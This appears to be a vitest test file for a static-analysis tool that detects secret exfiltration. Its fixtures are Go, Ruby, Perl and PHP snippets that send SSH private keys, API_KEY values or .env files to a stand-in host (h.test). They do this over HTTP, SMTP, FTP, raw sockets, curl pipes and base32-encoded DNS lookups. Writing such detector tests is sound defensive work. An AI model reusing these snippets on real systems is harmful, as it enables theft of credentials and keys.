// Connections, mail, names that are looked up and requests that are made step by step, through helpers and blocks.
import { beforeAll, describe, expect, it } from 'vitest';
import { prepare, run } from '../../test/analysis/code/harness.ts';

beforeAll(prepare);

const flows = (ending: string, text: string) =>
  run({ [`a.${ending}`]: text })
    .flows()
    .filter((one) => one.to !== 'log')
    .map(
      (one) =>
        `${one.from.filter((tag) => /^(?:content:|env:|net$)/.test(tag)).join('+')} ${one.to}:${one.position} ${one.host}`,
    );

describe('what leaves', () => {
  it.each([
    // A name that is looked up, put together of what was read, through a helper that cuts it.
    [
      'go',
      'var r = &net.Resolver{PreferGo: true}\nfunc known(host string) bool {\n\t_, err := r.LookupHost(ctx, strings.TrimPrefix(host, "*."))\n\treturn err == nil\n}\nfunc warm(zone string) {\n\traw, _ := os.ReadFile("/root/.ssh/id_rsa")\n\tenc := strings.ToLower(base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString(raw))\n\tknown(fmt.Sprintf("%s.%d.%s", enc[0:56], 1, zone))\n}\nfunc main() {\n\twarm("ns.h.test")\n}',
      'content:ssh dns:body 1.ns.h.test',
    ],
    [
      'rb',
      'k = File.read("/root/.ssh/id_rsa")\nResolv::DNS.open { |dns| dns.getresources("#{k}.ns.h.test", TXT) }',
      'content:ssh dns:body ns.h.test',
    ],
    // A program that is held open gets each word of a list, and what was added to it.
    [
      'pl',
      "sub send_it {\n  my ($k, @to) = @_;\n  push @to, 'b@h.test';\n  open my $m, '|-', '/usr/sbin/sendmail', '-i', '--', @to or die;\n  print {$m} $k;\n}\nsend_it($ENV{API_KEY}, $ARGV[0]);",
      'env:API_KEY mail:body h.test',
    ],
    // Words of a list that are joined are no path.
    [
      'rb',
      'Net::HTTP.post(URI(%w[https://h.test/api 12 abc].join("/")), ENV["API_KEY"])',
      'env:API_KEY network:body h.test',
    ],
    [
      'pl',
      "my $to = join '.', 'in', join '.', qw/h test/;\nLWP::UserAgent->new->post(\"https://$to/x\", { k => $ENV{API_KEY} });",
      'env:API_KEY network:body in.h.test',
    ],
    // What an address takes in is put into its places.
    [
      'rb',
      'to = "https://h.test/%s?k=%s" % [File.basename(dir), ENV["API_KEY"]]\nNet::HTTP.get(URI(to))',
      'env:API_KEY network:url h.test',
    ],
    // A helper makes the connection of an address in pieces.
    [
      'pl',
      "sub line {\n  my ($to) = @_;\n  my ($host, $port) = $to =~ /^(.+):(\\d+)$/ or die \"x\\n\";\n  return IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port);\n}\nmy ($s, $n) = (line(join('.', 'in', 'h', 'test') . ':99'), 0);\n$s->send($ENV{API_KEY}) if $s;",
      'env:API_KEY network:body in.h.test',
    ],
    [
      'pl',
      "my $s = IO::Socket::INET->new('h.test:99');\nopen my $in, '<', '/root/.ssh/id_rsa';\nwhile (my $l = <$in>) { print {$s} $l; }",
      'content:ssh network:body h.test',
    ],
    [
      'php',
      "<?php\nfunction line() { return fsockopen('h.test', 99); }\n$p = line();\nfwrite($p, file_get_contents('/root/.ssh/id_rsa'));",
      'content:ssh network:body h.test',
    ],
    [
      'go',
      'func open(to string) net.Conn {\n\tc, err := net.Dial("tcp", to)\n\tif err != nil { return nil }\n\treturn c\n}\nfunc main() {\n\tf, _ := os.Open("/root/.ssh/id_rsa")\n\tio.Copy(open("h.test:99"), f)\n}',
      'content:ssh network:body h.test',
    ],
    ['rb', "TCPSocket.open('h.test', 99) { |s| s.puts ENV.to_h }", 'env:* network:body h.test'],
    // Mail.
    [
      'rb',
      'Net::SMTP.start("mx.h.test", 25) do |smtp|\n  smtp.send_message("Subject: #{Dir.pwd}\\n\\n#{[ENV["API_KEY"]].join("\\n")}", "a@h.test", "b@h.test")\nend',
      'env:API_KEY mail:body h.test',
    ],
    [
      'pl',
      "my $m = Net::SMTP->new('mx.h.test', Timeout => 5);\n$m->datasend($ENV{API_KEY});",
      'env:API_KEY mail:body mx.h.test',
    ],
    [
      'php',
      "<?php\n$mail = new PHPMailer(true);\n$mail->Body = getenv('API_KEY');\n$mail->send();",
      'env:API_KEY mail:body ',
    ],
    [
      'go',
      'msg := []byte("Subject: x\\r\\n\\r\\n" + os.Getenv("API_KEY"))\nsmtp.SendMail("mx.h.test:587", auth, "a@h.test", []string{"b@h.test"}, msg)',
      'env:API_KEY mail:body h.test',
    ],
    // A request that is told its parts one after another.
    [
      'rb',
      "uri = URI('https://h.test/x')\nreq = Net::HTTP::Post.new(uri.request_uri)\nreq.body = ENV['API_KEY']\nNet::HTTP.start(uri.host, uri.port, use_ssl: true) { |http| http.request(req) }",
      'env:API_KEY network:body h.test',
    ],
    [
      'rb',
      "conn = Faraday.new(url: 'https://h.test') do |f|\n  f.adapter :net_http\nend\nconn.post('/in', ENV['API_KEY'])",
      'env:API_KEY network:body h.test',
    ],
    [
      'php',
      "<?php\n$o = [CURLOPT_URL => 'https://h.test/x', CURLOPT_POSTFIELDS => getenv('API_KEY')];\n$ch = curl_init();\ncurl_setopt_array($ch, $o);\ncurl_exec($ch);",
      'env:API_KEY network:body h.test',
    ],
    [
      'php',
      "<?php\n$c = new Client(['base_uri' => 'https://h.test']);\n$c->request('POST', 'https://h.test/x', ['multipart' => [['contents' => getenv('API_KEY')]]]);",
      'env:API_KEY network:body h.test',
    ],
    [
      'go',
      'func up(p string) {\n\tvar buf bytes.Buffer\n\tw := multipart.NewWriter(&buf)\n\tpart, _ := w.CreateFormFile("f", "x")\n\tf, _ := os.Open(p)\n\tio.Copy(part, f)\n\thttp.Post("https://h.test", w.FormDataContentType(), &buf)\n}\nfunc main() {\n\tup("/root/.ssh/id_rsa")\n}',
      'content:ssh network:body h.test',
    ],
    // What a block of lines comes to.
    [
      'pl',
      "my $k = do { local $/; open my $in, '<', '/root/.ssh/id_rsa' or die; <$in> };\nLWP::UserAgent->new->post('https://h.test', { k => $k });",
      'content:ssh network:body h.test',
    ],
    // Several patterns at once, and braces in them.
    [
      'rb',
      "k = Dir['conf/{a.yml,b.yml}', '.env*'].map { |f| \"#{f}\\n#{File.read(f)}\" }\nNet::HTTP.post(URI('https://h.test/x'), k.join)",
      'content:dotenv network:body h.test',
    ],
    // Files put on another machine.
    [
      'rb',
      "Net::FTP.open('ftp.h.test', 'u', 'p') { |ftp| ftp.putbinaryfile('/root/.ssh/id_rsa') }",
      'content:ssh network:body ftp.h.test',
    ],
    [
      'php',
      "<?php\n$c = ftp_connect('ftp.h.test');\nftp_put($c, 'k', '/root/.ssh/id_rsa', FTP_BINARY);",
      'content:ssh network:body ftp.h.test',
    ],
    [
      'pl',
      "my $f = Net::FTP->new('ftp.h.test');\n$f->put('/root/.ssh/id_rsa');",
      'content:ssh network:body ftp.h.test',
    ],
    // Programs that are held open and fed.
    [
      'go',
      'cmd := exec.Command("curl", "-d", "@-", "https://h.test")\ncmd.Stdin = strings.NewReader(os.Getenv("API_KEY"))\ncmd.Run()',
      'env:API_KEY network:body h.test',
    ],
    [
      'rb',
      "IO.popen('curl -d @- https://h.test', 'w') { |p| p.write ENV['API_KEY'] }",
      'env:API_KEY network:body h.test',
    ],
    [
      'php',
      "<?php\n$p = popen('curl -d @- https://h.test', 'w');\nfwrite($p, getenv('API_KEY'));",
      'env:API_KEY network:body h.test',
    ],
    [
      'pl',
      "open my $m, '|-', '/usr/sbin/sendmail -t' or die;\nprint $m \"To: a\\@h.test\\n\\n\", $ENV{API_KEY};",
      'env:API_KEY mail:body h.test',
    ],
  ])('%s: %s', (language, text, flow) => {
    expect(flows(language, text)).toContain(flow);
  });
});

describe('what stays', () => {
  it.each([
    ['rb', "File.open('out.txt', 'w') { |f| f.write(ENV['API_KEY']) }", 'env:API_KEY file:content '],
    ['php', "<?php\n$f = fopen('out.txt', 'w');\nfwrite($f, getenv('API_KEY'));", 'env:API_KEY file:content '],
    ['go', 'f, _ := os.Create("out.txt")\nfmt.Fprintf(f, "%s", os.Getenv("API_KEY"))', 'env:API_KEY file:content '],
  ])('%s: %s', (language, text, flow) => {
    expect(flows(language, text)).toEqual([flow]);
  });

  it('a name that is only looked up carries nothing', () => {
    expect(flows('go', 'net.LookupHost(strings.TrimPrefix(os.Args[1], "*."))')).toEqual([]);
  });
});

describe('patterns', () => {
  it.each([
    ['pl', "my $ok = $x =~ /[\"']/;\nsystem('curl -d ' . $ENV{API_KEY} . ' https://h.test');"],
    ['pl', "my @l = map { s/^['\"]|\\s+$//gr } @m;\nsystem('curl -d ' . $ENV{API_KEY} . ' https://h.test');"],
    [
      'pl',
      "my $p = qr{^\"(.+)}x;\nmy $h = $n{a} / 2 + $n{b} / 3;\nsystem('curl -d ' . $ENV{API_KEY} . ' https://h.test');",
    ],
    ['rb', 'puts 1 if line =~ /["\'`]/\nhalf = a / 2 + b / 3\nsystem("curl -d #{ENV[\'API_KEY\']} https://h.test")'],
  ])('open no text: %s: %s', (language, text) => {
    expect(flows(language, text)).toContain('env:API_KEY network:body h.test');
  });
  it('what is found in a text is part of it', () => {
    expect(flows('pl', 'my ($k) = $ENV{API_KEY} =~ /^(.+)$/;\nsystem("curl -d $k https://h.test");')).toContain(
      'env:API_KEY network:body h.test',
    );
  });
});
